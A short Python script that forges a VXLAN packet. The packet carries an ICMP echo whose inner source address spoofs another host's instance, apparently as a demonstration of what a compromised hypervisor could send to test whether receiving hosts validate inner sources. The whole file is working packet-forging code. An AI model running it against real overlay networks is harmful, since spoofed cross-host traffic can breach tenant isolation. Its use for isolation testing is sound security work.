"""What a lying hypervisor could send: a VXLAN packet whose inner source is another host's instance.

forge.py FROM_VTEP TO_VTEP VNI INNER_SOURCE INNER_DESTINATION
"""

from __future__ import annotations

import socket
import struct
import sys

VXLAN_PORT = 4789  # RFC 7348 section 5


def checksum(data: bytes) -> int:
    """Return the internet checksum of an even number of bytes. Source: RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def forged(to_vtep: str, vni: int, source: str, destination: str) -> bytes:
    """Return the UDP payload: a VXLAN header, an Ethernet header to the host's router MAC, an echo request."""
    echo = struct.pack("!BBHHH", 8, 0, 0, 4789, 1) + b"let me in"
    echo += b"\0" * (len(echo) % 2)
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(echo), 1, 0, 64, socket.IPPROTO_ICMP, 0)
    header += socket.inet_aton(source) + socket.inet_aton(destination)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    router_mac = b"\x02\x4e" + socket.inet_aton(to_vtep)
    frame = router_mac + b"\x02\x4e\0\0\0\x01" + struct.pack("!H", 0x0800) + header + echo
    return struct.pack("!II", 0x08000000, vni << 8) + frame


def main() -> None:
    """Send one."""
    from_vtep, to_vtep, vni, source, destination = sys.argv[1:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind((from_vtep, 0))
        sender.sendto(forged(to_vtep, int(vni), source, destination), (to_vtep, VXLAN_PORT))
    print(f"sent from {from_vtep} to {to_vtep}: VNI {vni}, an echo that claims to come from {source}")


main()
